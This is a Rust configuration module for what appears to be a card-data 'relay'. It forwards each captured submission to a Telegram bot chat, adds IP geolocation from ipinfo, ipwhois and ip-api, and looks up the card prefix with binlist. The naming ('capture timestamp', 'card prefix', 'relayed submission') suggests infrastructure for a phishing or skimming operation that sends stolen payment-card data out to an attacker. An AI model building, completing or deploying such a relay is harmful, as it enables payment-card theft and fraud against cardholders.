//! Configuration types.
//!
//! Everything here is read once at process start and shared read-only
//! afterwards.

use std::net::SocketAddr;

use chrono::{FixedOffset, Offset, Utc};
use secrecy::SecretString;

use crate::error::ConfigError;
use crate::issuer::extract::BinPolicy;

pub const DEFAULT_BIND_ADDR: &str = "0.0.0.0:3000";
pub const DEFAULT_TELEGRAM_API_URL: &str = "https://api.telegram.org";
pub const DEFAULT_IPINFO_URL: &str = "https://ipinfo.io";
pub const DEFAULT_IPWHOIS_URL: &str = "https://ipwho.is";
/// ip-api's free tier only answers over plain HTTP.
pub const DEFAULT_IPAPI_URL: &str = "http://ip-api.com";
pub const DEFAULT_BINLIST_URL: &str = "https://lookup.binlist.net";

/// Relay configuration.
#[derive(Debug, Clone)]
pub struct RelayConfig {
    /// Bot credential for the notification channel.
    pub telegram_token: SecretString,
    /// Destination chat for every relayed submission.
    pub chat_id: String,
    /// Optional ipinfo credential; the provider runs unauthenticated without it.
    pub ipinfo_token: Option<SecretString>,
    /// Address the HTTP listener binds to.
    pub bind_addr: SocketAddr,
    pub telegram_api_url: String,
    pub ipinfo_url: String,
    pub ipwhois_url: String,
    pub ipapi_url: String,
    pub binlist_url: String,
    /// Base URL for scheme logos. No artifact is attached when unset.
    pub logo_base_url: Option<String>,
    /// Offset used when rendering the capture timestamp.
    pub utc_offset: FixedOffset,
    /// How the card prefix is located in the submission.
    pub bin_policy: BinPolicy,
}

impl RelayConfig {
    /// Configuration with every optional setting at its default.
    pub fn new(telegram_token: impl Into<String>, chat_id: impl Into<String>) -> Self {
        Self {
            telegram_token: SecretString::from(telegram_token.into()),
            chat_id: chat_id.into(),
            ipinfo_token: None,
            bind_addr: SocketAddr::from(([0, 0, 0, 0], 3000)),
            telegram_api_url: DEFAULT_TELEGRAM_API_URL.to_string(),
            ipinfo_url: DEFAULT_IPINFO_URL.to_string(),
            ipwhois_url: DEFAULT_IPWHOIS_URL.to_string(),
            ipapi_url: DEFAULT_IPAPI_URL.to_string(),
            binlist_url: DEFAULT_BINLIST_URL.to_string(),
            logo_base_url: None,
            utc_offset: Utc.fix(),
            bin_policy: BinPolicy::default(),
        }
    }

    /// Load configuration from the process environment.
    pub fn from_env() -> Result<Self, ConfigError> {
        Self::from_lookup(|key| std::env::var(key).ok())
    }

    /// Load configuration from an arbitrary key lookup (the environment in production).
    pub fn from_lookup<F>(get: F) -> Result<Self, ConfigError>
    where
        F: Fn(&str) -> Option<String>,
    {
        let non_empty = |key: &str| get(key).map(|v| v.trim().to_string()).filter(|v| !v.is_empty());
        let required = |key: &str| non_empty(key).ok_or_else(|| ConfigError::MissingEnvVar(key.to_string()));

        let mut config = Self::new(required("TELEGRAM_BOT_TOKEN")?, required("TELEGRAM_CHAT_ID")?);
        config.ipinfo_token = non_empty("IPINFO_TOKEN").map(SecretString::from);

        let bind = non_empty("RELAY_BIND_ADDR").unwrap_or_else(|| DEFAULT_BIND_ADDR.to_string());
        config.bind_addr = bind.parse().map_err(|e| ConfigError::InvalidValue {
            key: "RELAY_BIND_ADDR".into(),
            message: format!("{e}"),
        })?;

        let url = |key: &str, default: &str| {
            non_empty(key)
                .unwrap_or_else(|| default.to_string())
                .trim_end_matches('/')
                .to_string()
        };
        config.telegram_api_url = url("RELAY_TELEGRAM_API_URL", DEFAULT_TELEGRAM_API_URL);
        config.ipinfo_url = url("RELAY_IPINFO_URL", DEFAULT_IPINFO_URL);
        config.ipwhois_url = url("RELAY_IPWHOIS_URL", DEFAULT_IPWHOIS_URL);
        config.ipapi_url = url("RELAY_IPAPI_URL", DEFAULT_IPAPI_URL);
        config.binlist_url = url("RELAY_BINLIST_URL", DEFAULT_BINLIST_URL);
        config.logo_base_url = non_empty("RELAY_LOGO_BASE_URL");

        if let Some(raw) = non_empty("RELAY_UTC_OFFSET_MINUTES") {
            let minutes: i32 = raw.parse().map_err(|_| ConfigError::InvalidValue {
                key: "RELAY_UTC_OFFSET_MINUTES".into(),
                message: format!("not an integer: {raw}"),
            })?;
            config.utc_offset = minutes
                .checked_mul(60)
                .and_then(FixedOffset::east_opt)
                .ok_or_else(|| ConfigError::InvalidValue {
                    key: "RELAY_UTC_OFFSET_MINUTES".into(),
                    message: format!("offset out of range: {minutes}"),
                })?;
        }

        if let Some(raw) = non_empty("RELAY_BIN_POLICY") {
            config.bin_policy = raw.parse().map_err(|message| ConfigError::InvalidValue {
                key: "RELAY_BIN_POLICY".into(),
                message,
            })?;
        }

        Ok(config)
    }
}
